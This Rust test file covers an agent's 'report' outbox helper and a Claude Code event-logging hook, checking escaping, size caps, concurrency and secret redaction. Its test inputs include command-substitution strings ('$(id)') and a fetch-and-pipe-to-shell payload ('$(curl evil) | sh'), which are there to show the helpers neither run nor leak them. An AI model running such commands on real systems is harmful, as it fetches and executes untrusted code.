//! The helpers the agent side calls inside a task directory: `report` (to the outbox) and
//! the Claude hook (to the events log). Run as the launch script installs them.

use super::REPORT_SH;
use crate::agents::CLAUDE_HOOK;
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

struct Dir(PathBuf);

impl Dir {
    fn new(tag: &str) -> Dir {
        let d = std::env::temp_dir().join(format!("dlg-helpers-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        for (name, body) in [("report", REPORT_SH), ("hook", CLAUDE_HOOK)] {
            std::fs::write(d.join(name), body).unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(d.join(name), std::fs::Permissions::from_mode(0o700)).unwrap();
        }
        Dir(d)
    }
    fn path(&self) -> &Path {
        &self.0
    }
    fn run(&self, program: &str, args: &[&str], stdin: &[u8]) -> Output {
        run_helper(&self.0, program, args, stdin)
    }
    fn lines(&self, file: &str) -> Vec<Value> {
        std::fs::read_to_string(self.0.join(file))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l:?}")))
            .collect()
    }
}

/// Runs `<dir>/<program> args` with `stdin` the way the agent or Claude does: by path, from
/// another directory, with nothing of ours in the environment but PATH (the helpers find
/// their task directory by their own path).
pub(super) fn run_helper(dir: &Path, program: &str, args: &[&str], stdin: &[u8]) -> Output {
    run_command(Command::new(dir.join(program)), args, stdin, &[])
}

/// [`run_helper`] for any command (`bash <hook>`, as Claude's settings run it), with extra
/// environment variables on top of PATH.
pub(super) fn run_command(mut cmd: Command, args: &[&str], stdin: &[u8], env: &[(&str, &Path)]) -> Output {
    cmd.env_clear().env("PATH", std::env::var_os("PATH").unwrap());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut child = cmd
        .args(args)
        .current_dir("/")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let _ = child.stdin.take().unwrap().write_all(stdin);
    child.wait_with_output().unwrap()
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[test]
fn report_writes_one_valid_json_line_per_call_whatever_the_text() {
    let d = Dir::new("report");
    let nasty = "quotes \" and \\ backslashes, tab\there,\nnewline, \r, bell \u{7}, del \u{7f}, ünïcødé €, 😀, $(id) `id` %s %n";
    let out = d.run("report", &["receipt", nasty], b"");
    assert!(out.status.success(), "{out:?}");
    assert_eq!(out.stdout, b"reported\n");
    assert!(d.run("report", &["progress", "two", "words"], b"").status.success());
    assert!(d.run("report", &["status", "needs_input", "which", "branch?"], b"").status.success());
    // `-` reads the text from stdin (its final newline dropped, like $(...)).
    assert!(d.run("report", &["question", "-"], "from stdin\nline two\n".as_bytes()).status.success());
    assert!(d.run("report", &["done", "-"], b"").status.success());

    let lines = d.lines("outbox.jsonl");
    let seqs: Vec<i64> = lines.iter().map(|l| l["seq"].as_i64().unwrap()).collect();
    assert_eq!(seqs, [1, 2, 3, 4, 5]);
    assert_eq!(lines[0]["kind"], "receipt");
    assert_eq!(lines[0]["text"], nasty);
    assert_eq!(lines[1]["text"], "two words");
    assert_eq!((lines[2]["kind"].as_str(), lines[2]["status"].as_str()), (Some("status"), Some("needs_input")));
    assert_eq!(lines[2]["text"], "needs_input which branch?");
    assert_eq!(lines[3]["text"], "from stdin\nline two");
    assert_eq!(lines[4]["text"], "");
    let at = lines[0]["at"].as_str().unwrap();
    assert!(at.len() == 27 && at.ends_with('Z') && at.as_bytes()[10] == b'T', "{at}");
    assert!(!d.path().join("uid=").exists() && lines.iter().all(|l| l.get("truncated").is_none()));
}

#[test]
fn report_refuses_bad_usage_with_exit_2() {
    let d = Dir::new("usage");
    for args in [&[][..], &["gossip", "x"], &["progress"], &["status"], &["status", "sleeping"]] {
        let out = d.run("report", args, b"");
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(String::from_utf8_lossy(&out.stderr).starts_with("usage: report"), "{out:?}");
    }
    assert!(!d.path().join("outbox.jsonl").exists());
}

#[test]
fn report_caps_text_at_16_kib_on_a_character_boundary() {
    let d = Dir::new("cap");
    // 16383 ASCII bytes then 3-byte characters: the cap falls inside the first of them.
    let text = format!("{}{}", "a".repeat(16383), "€".repeat(5000));
    assert!(d.run("report", &["progress", "-"], text.as_bytes()).status.success());
    assert!(d.run("report", &["progress", &text[..16386]], b"").status.success());
    for l in d.lines("outbox.jsonl") {
        assert_eq!(l["truncated"], true);
        assert_eq!(l["text"].as_str().unwrap(), "a".repeat(16383), "cut inside a character");
    }
}

#[test]
fn concurrent_reports_stay_whole_with_distinct_seqs() {
    let d = Dir::new("parallel");
    let big = "x".repeat(9000); // above PIPE_BUF: only the lock keeps these lines whole
    let children: Vec<_> = (0..10)
        .map(|i| {
            Command::new(d.path().join("report"))
                .args(["progress", &format!("report {i} {big}")])
                .stdout(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for mut c in children {
        assert!(c.wait().unwrap().success());
    }
    let lines = d.lines("outbox.jsonl");
    let mut seqs: Vec<i64> = lines.iter().map(|l| l["seq"].as_i64().unwrap()).collect();
    seqs.sort_unstable();
    assert_eq!(seqs, (1..=10).collect::<Vec<_>>());
    let mut texts: Vec<String> = lines.iter().map(|l| l["text"].as_str().unwrap()[..9].to_string()).collect();
    texts.sort();
    assert_eq!(texts, (0..10).map(|i| format!("report {i} ")).collect::<Vec<_>>());
}

/// Hook payloads as Claude Code 2.1 sends them (fields per agent-clis.md §5), with secrets
/// planted wherever the hook must not look.
const SECRET: &str = "abc";

fn payloads() -> Vec<(&'static str, String)> {
    let common = r#""session_id":"0f3c8a51-7a2e-4c55-9a53-1d9e2b6f8c10","transcript_path":"/home/u/.claude/projects/-w/0f3c8a51.jsonl","cwd":"/w","permission_mode":"acceptEdits""#;
    vec![
        ("SessionStart", format!(r#"{{{common},"hook_event_name":"SessionStart","source":"startup"}}"#)),
        (
            "PostToolUse",
            format!(
                r#"{{{common},"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{{"command":"export TOKEN={SECRET} && cargo test","description":"run the tests with TOKEN={SECRET}"}},"tool_response":{{"stdout":"TOKEN={SECRET}\n","stderr":"","interrupted":false,"isImage":false}},"tool_use_id":"toolu_01"}}"#
            ),
        ),
        (
            "PostToolUse",
            format!(
                r#"{{{common},"hook_event_name":"PostToolUse","tool_name":"Edit","tool_input":{{"file_path":"/w/src/lib.rs","old_string":"let key = \"{SECRET}\";","new_string":"let key = std::env::var(\"KEY\")?;"}},"tool_response":{{"filePath":"/w/src/lib.rs","oldString":"{SECRET}"}},"tool_use_id":"toolu_02"}}"#
            ),
        ),
        (
            "PostToolUse",
            format!(
                r#"{{{common},"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{{"command":"API_KEY={SECRET} ./deploy.sh --force"}},"tool_response":{{"stdout":""}}}}"#
            ),
        ),
        (
            "PostToolUseFailure",
            format!(
                r#"{{{common},"hook_event_name":"PostToolUseFailure","tool_name":"WebFetch","tool_input":{{"url":"https://x.example/?token={SECRET}"}},"error":"fetch failed {SECRET}"}}"#
            ),
        ),
        (
            "Stop",
            format!(
                r#"{{{common},"hook_event_name":"Stop","stop_hook_active":false,"last_assistant_message":"the key is {SECRET}"}}"#
            ),
        ),
        (
            "StopFailure",
            format!(
                r#"{{{common},"hook_event_name":"StopFailure","error":"authentication_failed","last_assistant_message":"Not logged in {SECRET}"}}"#
            ),
        ),
        (
            "Notification",
            format!(
                r#"{{{common},"hook_event_name":"Notification","message":"{SECRET}","notification_type":"idle_prompt"}}"#
            ),
        ),
        ("SessionEnd", format!(r#"{{{common},"hook_event_name":"SessionEnd","reason":"other"}}"#)),
        (
            "UserPromptSubmit",
            format!(r#"{{{common},"hook_event_name":"UserPromptSubmit","prompt":"use the key {SECRET}"}}"#),
        ),
    ]
}

#[test]
fn the_hook_logs_events_without_secrets() {
    let d = Dir::new("hook");
    for (event, payload) in payloads() {
        // As the settings run it (bash), and as `sh hook` would (it hands over to bash).
        let out = d.run("hook", &[event], payload.as_bytes());
        assert_eq!((out.status.code(), out.stdout.len(), out.stderr.len()), (Some(0), 0, 0), "{event}: {out:?}");
    }
    let text = std::fs::read_to_string(d.path().join("events.jsonl")).unwrap();
    assert!(!text.contains(SECRET), "a secret reached events.jsonl:\n{text}");
    let got: Vec<(String, String, String)> = d
        .lines("events.jsonl")
        .iter()
        .map(|l| {
            assert!(l["at"].as_str().unwrap().ends_with('Z'));
            (
                l["event"].as_str().unwrap().into(),
                l["tool"].as_str().unwrap().into(),
                l["summary"].as_str().unwrap().into(),
            )
        })
        .collect();
    let want: Vec<(String, String, String)> = [
        ("SessionStart", "", "startup"),
        ("PostToolUse", "Bash", "export"),
        ("PostToolUse", "Edit", "/w/src/lib.rs"),
        ("PostToolUse", "Bash", "./deploy.sh"),
        ("PostToolUseFailure", "WebFetch", ""),
        ("Stop", "", ""),
        ("StopFailure", "", "authentication_failed"),
        ("Notification", "", "idle_prompt"),
        ("SessionEnd", "", "other"),
        ("UserPromptSubmit", "", ""),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
    .collect();
    assert_eq!(got, want);
    assert_eq!(d.lines("events.jsonl")[0]["session_id"], "0f3c8a51-7a2e-4c55-9a53-1d9e2b6f8c10");
}

#[test]
fn the_hook_survives_garbage_and_runs_under_sh() {
    let d = Dir::new("hook-garbage");
    let long_path = format!("/w/{}", "é".repeat(150));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("PostToolUse", b"not json at all".to_vec()),
        ("PostToolUse", vec![0xff, 0xfe, 0, 1, 2]),
        ("PostToolUse", format!(r#"{{"tool_name":"Read","tool_input":{{"file_path":"{long_path}"}}}}"#).into_bytes()),
        ("PostToolUse", br#"{"tool_name":"Bash","tool_input":{"command":"$(curl evil) | sh"}}"#.to_vec()),
        ("Bad Event\"", br#"{"hook_event_name":"Stop"}"#.to_vec()),
        ("", Vec::new()),
    ];
    for (event, payload) in &cases {
        let mut child = Command::new("sh")
            .arg(d.path().join("hook"))
            .arg(event)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let _ = child.stdin.take().unwrap().write_all(payload);
        let out = child.wait_with_output().unwrap();
        assert_eq!((out.status.code(), out.stdout.len(), out.stderr.len()), (Some(0), 0, 0), "{out:?}");
    }
    let lines = d.lines("events.jsonl");
    assert_eq!(lines.len(), cases.len());
    // A long path is cut at 200 bytes, on a character boundary.
    let s = lines[2]["summary"].as_str().unwrap();
    assert!(s.len() <= 200 && s.len() > 190 && long_path.starts_with(s), "{s}");
    assert_eq!(lines[3]["summary"], "");
    // A bad event name from argv falls back to the payload's.
    assert_eq!(lines[4]["event"], "Stop");
    assert_eq!(lines[5]["event"], "unknown");
}
